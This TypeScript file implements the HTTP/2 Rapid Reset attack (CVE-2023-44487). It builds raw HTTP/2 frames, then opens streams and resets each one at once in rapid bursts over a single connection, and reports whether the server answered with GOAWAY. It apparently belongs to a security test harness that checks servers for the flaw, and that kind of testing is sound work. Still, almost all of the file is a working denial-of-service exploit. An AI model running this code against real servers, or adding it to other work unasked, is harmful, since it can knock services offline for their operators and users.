import { open } from "./attackers.ts";

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const GOAWAY = 7;
/** END_STREAM and END_HEADERS. */
const WHOLE = 5;
const CANCEL = Buffer.from([0, 0, 0, 8]);

/** A frame of RFC 9113 §4.1. */
function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** GET with indexed and literal fields of RFC 7541, nothing in the dynamic table. */
function getFields(path: string, authority: string): Buffer {
  const text = (value: string): Buffer => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);
  return Buffer.concat([Buffer.from([0x82, 0x87, 0x04]), text(path), Buffer.from([0x01]), text(authority)]);
}

/**
 * Opens streams and resets each at once, on one connection in the clear, until it is ended or all were opened (CVE-2023-44487).
 * @returns how many were opened, and whether a GOAWAY came
 */
export async function rapidReset(
  port: number,
  request: { readonly path: string; readonly authority: string },
  streams: number,
): Promise<{ opened: number; goaway: boolean }> {
  const client = await open(port);
  const fields = getFields(request.path, request.authority);
  client.socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0))]));
  let opened = 0;
  while (!client.closed && opened < streams) {
    const burst: Buffer[] = [];
    for (let each = 0; each < 25 && opened < streams; each++, opened++) {
      const stream = 2 * opened + 1;
      burst.push(frame(HEADERS, WHOLE, stream, fields), frame(RST_STREAM, 0, stream, CANCEL));
    }
    client.socket.write(Buffer.concat(burst));
    await new Promise((resolve) => setTimeout(resolve, 1));
  }
  await new Promise((resolve) => setTimeout(resolve, 200));
  client.socket.destroy();
  return { opened, goaway: frameTypes(Buffer.from(client.text, "latin1")).includes(GOAWAY) };
}

function frameTypes(octets: Buffer): number[] {
  const types: number[] = [];
  for (let at = 0; at + 9 <= octets.length; at += 9 + octets.readUIntBE(at, 3)) types.push(octets[at + 3] as number);
  return types;
}
